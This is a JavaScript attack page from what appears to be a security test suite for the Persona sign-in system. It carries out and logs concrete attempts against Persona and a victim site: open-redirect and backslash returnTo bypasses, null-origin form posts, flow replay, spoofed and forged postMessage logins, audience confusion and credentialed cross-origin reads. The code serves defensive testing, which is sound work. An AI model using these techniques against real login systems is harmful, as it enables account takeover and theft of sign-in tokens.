// What a web site may try against Persona and the sites that trust it. Tests press the buttons (`data-attempt`) and read
// the list; `data-finding` of a line is `got` if something came that should not, `kept` if it was refused, `heard` if it
// means nothing by itself.

const { persona, victim, world } = document.body.dataset;
const heard = document.getElementById("heard");

function note(finding, what, detail = "") {
  const line = document.createElement("li");
  line.dataset.finding = finding;
  line.dataset.what = what;
  line.textContent = `${finding}: ${what} ${typeof detail === "string" ? detail : JSON.stringify(detail)}`;
  heard.append(line);
}

// A fragment that another site's redirection brought along. Encrypted to the tab that asked, it is nobody's here.
if (location.hash.length > 1) {
  const readable = /assertion|~|eyJ[\w-]+\.[\w-]+\.[\w-]+(?!\.)$/.test(decodeURIComponent(location.hash));
  note(readable && !location.hash.startsWith("#persona=") ? "got" : "heard", "fragment", location.hash);
}

addEventListener("message", (event) => {
  if (event.data?.type === "result" && event.data.assertion) {
    const [, payload] = event.data.assertion.split("~").pop().split(".");
    const { aud } = JSON.parse(atob(payload.replace(/-/g, "+").replace(/_/g, "/")));
    // One for this site itself is everybody's right.
    note(aud === location.origin ? "heard" : "got", "assertion", { aud });
    return;
  }
  if (event.source !== window) note("heard", "message", { origin: event.origin, data: event.data });
});

const lie = { origin: victim, audience: victim, site: victim, rp: victim, host: victim, siteName: new URL(victim).host };
let popup = null;

/** Opens the dialog, and says `params` when it asks. */
function dialog(params, address = "/sign_in#popup") {
  popup = open(persona + address, "_blank", "popup,width=440,height=640");
  addEventListener("message", (event) => {
    if (event.source === popup && event.data?.type === "ready") {
      popup.postMessage({ persona: 1, type: "request", ...lie, params }, persona);
    }
  });
}

/** Begins a flow by redirection, with a key of our own. */
async function flow(fields, target = "_self") {
  const pair = await crypto.subtle.generateKey({ name: "ECDH", namedCurve: "P-256" }, true, ["deriveBits"]);
  const { kty, crv, x, y } = await crypto.subtle.exportKey("jwk", pair.publicKey);
  const form = Object.assign(document.createElement("form"), { method: "post", action: `${persona}/sign_in`, target });
  for (const [name, value] of Object.entries({ key: JSON.stringify({ kty, crv, x, y }), ...fields })) {
    const input = Object.assign(document.createElement("input"), { name, value, type: "hidden" });
    form.append(input);
  }
  document.body.append(form);
  form.submit();
}

/** Asks for something of another origin: to read it, and, in vain, only to have it done. */
async function reach(what, url, options = {}) {
  try {
    const answer = await fetch(url, { credentials: "include", ...options });
    note(answer.type === "opaque" ? "heard" : "got", what, `${answer.status} ${(await answer.text()).slice(0, 80)}`);
  } catch {
    note("kept", what);
  }
}

const attempts = {
  // The dialog is told in every way that it speaks to somebody else.
  lie: () => dialog({ ...lie, returnTo: "/" }),
  // The way back is another site's.
  "return-elsewhere": () => flow({ ...lie, returnTo: `${victim}/` }),
  "return-protocol-relative": () => flow({ ...lie, returnTo: `//${new URL(victim).host}/` }),
  "return-backslash": () => flow({ ...lie, returnTo: `/\\${new URL(victim).host}/` }),
  // The origin is a claim of the form's, and of its address.
  "origin-field": () => flow({ ...lie, returnTo: "/collect" }),
  // From a frame whose origin is null.
  "null-origin": () => {
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-forms allow-scripts allow-top-navigation allow-popups";
    frame.srcdoc = `<form method="post" action="${persona}/sign_in"><input name="origin" value="${victim}">
      <input name="returnTo" value="/"><input name="key" value="{}"></form><script>document.forms[0].submit()</script>`;
    document.body.append(frame);
  },
  // Somebody else's flow, by its address: given as ?flow=.
  replay: () => location.assign(`${persona}/sign_in?flow=${encodeURIComponent(new URLSearchParams(location.search).get("flow"))}`),
  // Not the opener, but a frame beside it, says what the dialog should do.
  "wrong-source": () => {
    popup = open(`${persona}/sign_in#popup`, "_blank", "popup,width=440,height=640");
    window.accomplicesPrey = popup;
    const frame = document.createElement("iframe");
    frame.src = "/accomplice";
    frame.hidden = true;
    document.body.append(frame);
  },
  // The other site is told that somebody has signed in.
  "forged-result": () => {
    const prey = open(victim, "_blank");
    let said = 0;
    const timer = setInterval(() => {
      prey.postMessage({ persona: 1, type: "result", assertion: "a.b.c~d.e.f", email: "eve@evil.example" }, "*");
      prey.postMessage({ persona: 1, type: "ready" }, "*");
      if ((said += 1) === 20) {
        clearInterval(timer);
        note("heard", "forged-result", "said");
      }
    }, 100);
  },
  // The other site has a page that sends anybody anywhere, and one that lets anybody say where it comes back to.
  "open-redirector": () => {
    const back = `/out?to=${encodeURIComponent(`${location.origin}/collect`)}`;
    location.assign(`${victim}/careless?returnTo=${encodeURIComponent(back)}`);
  },
  // An assertion for this site is shown to the other one.
  "wrong-audience": () => {
    navigator.id.get(async (assertion) => {
      if (!assertion) return note("kept", "wrong-audience");
      const options = { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ assertion }) };
      await reach("wrong-audience", `${victim}/login`, options);
      options.mode = "no-cors";
      options.headers = { "Content-Type": "text/plain" };
      await reach("wrong-audience-blind", `${victim}/login`, options);
    });
  },
  // Everything of ours is framed.
  frames: () => {
    for (const url of [`${persona}/sign_in`, `${persona}/`, `${persona}/lab/inbox`, victim, world].filter(Boolean)) {
      const frame = document.createElement("iframe");
      frame.src = url;
      frame.dataset.framed = url;
      document.body.append(frame);
    }
    note("heard", "frames", "made");
  },
  // What is for operators, for mail's readers, and for Persona's own pages.
  reach: async () => {
    const mark = { "X-Persona-World": "1", "Content-Type": "application/json" };
    await reach("session", `${persona}/wsapi/session_context`);
    await reach("emails", `${persona}/wsapi/list_emails`);
    await reach("inbox", `${persona}/lab/inbox.json`);
    if (world) {
      await reach("world", `${world}/api/world`);
      await reach("lose-half", `${world}/api/world/lose-half`, { method: "POST", headers: mark });
      await reach("lose-half-blind", `${world}/api/world/lose-half`, { method: "POST", mode: "no-cors" });
      await reach("front", `${world}/api/front`, { method: "POST", headers: mark, body: "{}" });
    }
    note("heard", "reach", "done");
  },
  // A page that only looks is told nothing.
  watch: () => {
    navigator.id.watch({
      loggedInUser: undefined,
      onlogin: () => note("got", "onlogin"),
      onlogout: () => note("got", "onlogout"),
      onready: () => note("heard", "onready"),
    });
  },
};

if (location.pathname === "/accomplice") {
  const prey = parent.accomplicesPrey;
  const timer = setInterval(() => {
    if (prey.closed) return clearInterval(timer);
    prey.postMessage({ persona: 1, type: "request", ...lie, params: { returnTo: "/" } }, persona);
  }, 100);
}

for (const [name, attempt] of Object.entries(attempts)) {
  const button = Object.assign(document.createElement("button"), { type: "button", textContent: name });
  button.dataset.attempt = name;
  button.addEventListener("click", attempt);
  document.getElementById("attempts").append(button);
}
